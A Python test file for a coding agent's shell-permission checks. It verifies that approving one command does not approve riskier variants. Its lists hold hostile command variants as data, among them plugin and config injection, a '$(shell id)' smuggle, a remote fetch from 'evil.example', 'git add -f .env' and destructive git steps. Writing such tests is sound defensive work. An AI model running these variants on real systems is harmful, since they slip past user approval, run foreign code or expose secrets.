"""An answer for later commands covers a program, a subcommand and harmless options; nothing that runs more."""

from pathlib import Path

import pytest

from outlast.core.state import SessionState
from outlast.runtime.permissions.decision import Grant, Verdict
from outlast.runtime.permissions.rule_files import load_rules
from outlast.runtime.permissions.session_policy import SessionPolicy
from outlast.runtime.permissions.shell.grants import HEADS, head_words
from outlast.runtime.permissions.shell.judge import judge
from tests.unit.runtime.permissions.place import bash, make_project, policy_of

M11 = [
    ("pytest -q", "pytest -p evil"),
    ("pytest -q", "pytest --junitxml=../x.xml"),
    ("pytest -q", "pytest -q -c evil.ini"),
    ("pytest -q", "pytest --rootdir=/tmp -o addopts=x"),
    ("pytest -q", "pytest --basetemp=src"),
    ("pytest -q", "pytest ../outside"),
    ("pytest -q", "pytest @args"),
    ("pytest -q", "pytest link_out"),
    ("python -m pytest", "python -m pytest -p evil"),
    ("python -m unittest", "python -m unittest discover -s /tmp"),
    ("python -m unittest", "python -m unittest discover /tmp"),
    ("npm install", "npm install other --global"),
    ("npm install", "npm install other"),
    ("npm ci", "npm ci --prefix ../x"),
    ("npm test", "npm test --script-shell=./x"),
    ("npm test", "npm test -- --config=./x"),
    ("npm run build", "npm run build -- --plugin ./x"),
    ("go build ./...", "go build -toolexec=./x"),
    ("go test ./...", "go test -exec ./x ./..."),
    ("make test", "make test SHELL=./x"),
    ("make test", "make test --eval='$(shell id)'"),
    ("make test", "make test -f evil.mk"),
    ("make test", "make test -C /tmp"),
    ("git switch x", "git switch -f x"),
    ("git switch x", "git switch --discard-changes x"),
    ("git checkout x", "git checkout -f"),
    ("git checkout x", "git checkout y"),
    ("git restore a.txt", "git restore b.txt"),
    ("git stash", "git stash drop"),
    ("git stash", "git stash clear"),
    ("git add a.txt", "git add -f .env"),
    ("git add a.txt", "git add .env"),
    ("git commit -m x", "git commit --amend -m x"),
    ("git commit -m x", "git commit --no-verify -m x"),
    ("cargo test", "cargo test --config build.rustc-wrapper=./x"),
    ("cargo clippy", "cargo clippy -- -C linker=./x"),
    ("cargo build", "cargo build --manifest-path /tmp/Cargo.toml"),
    ("mypy src", "mypy --python-executable ./x src"),
    ("ruff check", "ruff check --config evil.toml"),
    ("eslint src", "eslint --rulesdir evil src"),
    ("prettier --check .", "prettier --plugin=./evil.js ."),
    ("tsc", "tsc --outDir ../x"),
    ("jest", "jest --config ./evil.js"),
    ("deno check a.ts", "deno check https://evil.example/a.ts"),
]
HARMLESS = [
    ("pytest -q", "pytest -xvs tests/test_a.py::test_b -k 'a and b' --tb=short --maxfail 2 -n4 -p no:cacheprovider"),
    ("pytest", "cd src && pytest -rA tests 2>&1 | tail -5"),
    ("python -m pytest", "python -m pytest tests -q"),
    ("npm install", "npm install --no-audit"),
    ("npm run lint", "npm run lint --silent"),
    ("go test ./...", "go test -race -run TestX -count=1 ./pkg/..."),
    ("make test", "make test -j4 -k"),
    ("git add a.txt", "git add -A"),
    ("git add a.txt", "git add src/main.py b.txt"),
    ("git commit -m x", "git commit -am 'another message'"),
    ("git stash", "git stash --include-untracked"),
    ("git switch x", "git switch -c y"),
    ("cargo test", "cargo test --all -p x some_name -- --nocapture"),
    ("cargo clippy", "cargo clippy --all-targets -- -D warnings"),
    ("ruff check", "ruff check --fix src"),
    ("python3 -m ruff check .", "python3 -m ruff check --fix src"),
    ("mypy src", "mypy --strict src tests"),
    ("prettier --check .", "prettier --check src"),
    ("mvn test", "mvn test -q -DskipTests"),
    ("tox -e py311", "tox -e lint"),
]


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_project(tmp_path_factory.mktemp("grants"))


def judged_after(project: Path, answered: str, asked: str, home: Path) -> set[Verdict]:
    """The verdicts on `asked` after `answered` was allowed for the session, and always, here and in a later process."""
    gate = SessionPolicy(project=project, roots=(project,), prompting=True, home=home, project_key="k1")
    granted = SessionState(runtime={"grants": [gate.grant(bash(answered))]})
    by_session = gate.judge(bash(asked), granted).verdict
    gate.always(bash(answered))
    rules = load_rules(home=home, project=project, project_key="k1").rules
    later = SessionPolicy(project=project, roots=(project,), prompting=True, rules=rules)
    return {by_session, *(one.judge(bash(asked), SessionState()).verdict for one in (gate, later))}


@pytest.mark.parametrize(("answered", "asked"), M11)
def test_m11_an_answer_covers_no_option_that_runs_or_writes_something_else(
    project: Path, tmp_path: Path, answered: str, asked: str
) -> None:
    assert judged_after(project, answered, answered, tmp_path) == {Verdict.ALLOW}
    assert judged_after(project, answered, asked, tmp_path) == {Verdict.ASK}


@pytest.mark.parametrize(("answered", "asked"), HARMLESS)
def test_an_answer_covers_the_same_program_with_harmless_options(
    project: Path, tmp_path: Path, answered: str, asked: str
) -> None:
    assert judged_after(project, answered, asked, tmp_path) == {Verdict.ALLOW}


@pytest.mark.parametrize("answered", sorted({hostile for _, hostile in M11}))
def test_m11_a_hostile_command_that_was_allowed_is_allowed_as_it_is_alone(project: Path, answered: str) -> None:
    gate = SessionPolicy(project=project, roots=(project,), prompting=True)
    granted = SessionState(runtime={"grants": [gate.grant(bash(answered))]})
    assert gate.judge(bash(answered), granted).verdict is Verdict.ALLOW
    assert gate.judge(bash(f"{answered} more"), granted).verdict is Verdict.ASK


def test_a_rule_that_the_user_wrote_covers_all_that_begins_with_its_words(project: Path, tmp_path: Path) -> None:
    (tmp_path / "permission-rules.json").write_text('{"allow": [{"tool": "bash", "command": "pytest"}]}')
    rules = load_rules(home=tmp_path, project=project, project_key="k1").rules
    assert judge("pytest -p plugin", policy_of(project, rules=rules)).verdict is Verdict.ALLOW


@pytest.mark.parametrize("head", sorted(HEADS))
def test_each_head_is_its_own_head_and_covers_no_unknown_option(project: Path, head: tuple[str, ...]) -> None:
    assert head_words(head) == head
    policy = policy_of(project, grants=(Grant(tool="bash", commands=(head,)),))
    assert judge(" ".join(head), policy).verdict is Verdict.ALLOW
    for more in ("--no-such-option", "--config=./x", "-Z", "NAME=value", "/etc/passwd", "../x", "$?", "@x"):
        assert judge(" ".join((*head, more)), policy).verdict is Verdict.ASK, more
